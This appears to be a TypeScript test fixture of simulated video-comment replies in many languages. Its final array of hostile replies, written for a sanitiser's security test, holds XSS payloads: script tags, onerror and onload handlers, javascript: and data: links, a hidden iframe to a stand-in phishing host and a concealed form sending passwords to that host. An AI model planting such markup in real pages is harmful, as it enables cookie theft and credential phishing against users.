/** What repliers write. Placeholders: {mention} (an earlier replier), {ts} {ts2} (moments in the video), {n}. */

export const GENERIC_REPLIES: string[] = [
  '{mention} totally agree, the part at {ts} gets me every time',
  'This is *the* best one on the channel. Don’t @ me 😂',
  'Who’s still watching in 2026? 🙋',
  '{mention} it’s at {ts} and again at {ts2}',
  "I can't believe it's been {n} years already",
  'Came here from https://www.reddit.com/r/videos/ — not disappointed.',
  'Line one of my thoughts\nLine two, after a break\n\nand a last one after an empty line',
  '*Legendary*',
  '🔥🔥🔥',
  '{mention} no, it was filmed in the morning, the light at {ts} gives it away',
  'The "official" version is better, fight me',
  'I <3 this & that — <b>not bold</b>, just typed it',
  'Full list of places: https://maps.example.com/?q=route&mode=walk, enjoy!',
  '{mention} thanks, I didn’t know that!',
  '¡Qué maravilla! Saludos desde México 🇲🇽',
  'Alguém do Brasil? 🇧🇷',
  "C'est « culte », tout simplement.",
  'Einfach zeitlos. Grüße aus Berlin!',
  '{ts}のところ最高！',
  '{ts} 여기 진짜 좋아요 👍',
  '经典永不过时',
  'Классика! Слушаю каждый день',
  'أغنية رائعة ❤️ تحياتي من القاهرة',
  'עבודה מעולה, תודה!',
  'عالیه 👏 از تهران',
  'बहुत बढ़िया 🎶',
  'Τέλειο!',
  'เพราะมากครับ',
  'Harika bir video 👏',
  '{mention} 😂😂 same',
  'Timestamps for the lazy:\n0:00 start\n{ts} best bit\n{ts2} ending',
]

export const ANCHOR_REPLIES: string[] = [
  'Never gonna give this song up ❤️',
  '{mention} you just got rickrolled, welcome to the club',
  'He said "never gonna" so many times, I counted {n}',
  'The dance at {ts} is iconic',
  'Got rickrolled by my teacher in an *online exam* 💀',
  '{mention} the key change at {ts} 🙌',
  'My kids know every word. 1987 and 2026 at the same time.',
  'Lyrics: https://www.rickastley.co.uk/lyrics?song=never-gonna-give-you-up&lang=en',
  "We're no strangers to love\nYou know the rules and so do I",
]

export const JAPANESE_REPLIES: string[] = [
  '{ts}の景色がきれいすぎる',
  '懐かしい！昔よく歩いた道です',
  '{mention} わかります、{ts2}あたりも最高',
  '夜の東京は本当にいいですね🌃',
  'BGMなしの環境音がたまらない',
  '毎朝これを見ながら出勤してます',
  '{mention} ありがとうございます！',
  'Beautiful walk, thank you from Paris 🇫🇷',
]

export const SELF_REPLIES: string[] = [
  'Thanks everyone for the replies! ❤️',
  '{mention} thank you, that means a lot',
  'Edit: wow, {n} likes? Thank you all!',
]

/** Replies whose html carries markup no page may run: the sanitiser's security test reads this thread. */
export const HOSTILE_REPLIES: { textOriginal: string; textHtml?: string }[] = [
  {
    textOriginal: "Great video! <script>alert('xss')</script>",
    textHtml: "Great video! <script>alert('xss')</script>",
  },
  {
    textOriginal: 'Look at this\n<img src=x onerror="alert(document.cookie)">',
    textHtml: 'Look at this<br><img src=x onerror="alert(document.cookie)">',
  },
  {
    textOriginal: 'Free subscribers here',
    textHtml: '<a href="javascript:alert(document.domain)">Free subscribers here</a>',
  },
  {
    textOriginal: 'Watch the full version',
    textHtml:
      'Watch the full version <iframe src="https://evil.example/phish" width="1" height="1"></iframe>',
  },
  { textOriginal: 'Nice edit', textHtml: '<svg onload="alert(1)"></svg>Nice <b>edit</b>' },
  {
    textOriginal: 'Totally normal bold text and a 1:23 link',
    textHtml:
      'Totally normal <b onmouseover="alert(1)">bold</b> text and a <a href="https://www.youtube.com/watch?v=Xs5eP0vHq2c&amp;t=83" onclick="steal()">1:23</a> link',
  },
  {
    textOriginal: 'Re-enter your password',
    textHtml:
      '<style>body{display:none}</style><form action="https://evil.example/login"><input name="password" placeholder="Re-enter your password"></form>',
  },
  {
    textOriginal: 'open',
    textHtml: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
  },
  {
    textOriginal: 'click',
    textHtml:
      '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">click</a>',
  },
  // A well-formed one (html written like every other reply) that the sanitiser must keep intact.
  { textOriginal: 'A perfectly fine reply:\nthe *best* bit is at 1:23, see https://example.com/notes' },
]
